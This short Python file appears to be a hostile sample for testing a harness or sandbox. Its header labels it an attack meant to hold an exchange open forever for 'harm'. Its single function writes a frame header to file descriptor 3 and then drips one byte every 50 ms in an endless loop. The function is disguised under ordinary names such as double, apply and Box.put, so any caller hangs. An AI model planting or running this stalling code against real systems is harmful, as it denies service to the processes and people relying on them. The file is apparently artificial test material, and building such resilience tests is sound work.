# /// attack
# tries = "Keeps the exchange open for ever, a byte at a time."
# gain = "harm"
# plain = "nothing"
# ///
import os
import time


def drip(*args):
    os.write(3, b"\x00\x01\x00\x00")
    while True:
        os.write(3, b"\x90")
        time.sleep(0.05)


double = drip
apply = drip


class Box:
    put = drip
    take = drip
